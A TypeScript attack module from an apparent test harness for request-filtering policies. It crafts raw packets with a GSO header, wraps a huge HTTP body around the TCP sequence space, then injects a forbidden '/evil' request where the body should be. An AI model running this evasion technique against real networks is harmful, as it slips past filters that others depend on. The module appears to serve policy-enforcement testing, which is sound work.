import type { Attack } from './attack.js';
import { vnetHeader } from './checksum-pen.js';
import { controlText, forbidText, REQUEST_POLICY, request, Line } from './line.js';

const AROUND = 2 ** 32;
const LARGE = 65_000;

/** Sends one large segment again and again, each behind the last one. */
const SEND_ON = `
frame, sent, left = bytearray.fromhex(frame), 0, total
with packet_socket("eth0", False, True) as s:
    while left >= size:
        struct.pack_into("!I", frame, seq_at, (seq + sent) % 2**32)
        try: s.send(frame)
        except OSError as e:
            if e.errno != errno.ENOBUFS: raise
            time.sleep(0.001)
            continue
        sent, left = sent + size, left - size
result = sent
`;

export const attack: Attack = {
  name: 'said-around',
  tries: 'Sends a body that never arrives once around the space of sequence numbers, and then another request.',
  policies: () => [REQUEST_POLICY],
  // 4 GiB.
  alone: true,
  async run(at) {
    const line = await Line.open(at);
    const head = request('/ok', undefined, `Content-Length: ${AROUND + 1_000_000}`);
    await line.send([line.segment(line.seq, head, {}, { ttl: 1 })]);
    const l4 = 14 + (at.family === 4 ? 20 : 40);
    const header = vnetHeader({
      flags: 1,
      gso: at.family === 4 ? 1 : 4,
      gsoSize: 1400,
      hdrLen: l4 + 20,
      start: l4,
      offset: 16,
    });
    const large = Buffer.concat([header, line.segment(0, Buffer.alloc(LARGE), {}, { ttl: 1 })]);
    const total = AROUND - head.length;
    const sent = (await at.me.program(SEND_ON, {
      frame: large.toString('hex'),
      seq_at: header.length + l4 + 4,
      seq: line.seq + head.length,
      size: LARGE,
      total,
    })) as number;
    const rest = Buffer.alloc(total - sent);
    const last = line.pieces((line.seq + head.length + sent) % AROUND, rest, 1400);
    await line.send(last);
    await line.send([line.segment(line.seq, request('/evil', forbidText(at, 'in place of what never arrived')))]);

    const control = await Line.open(at);
    await control.send([control.segment(control.seq, request('/ok', controlText(at, 'a request')))]);
  },
};
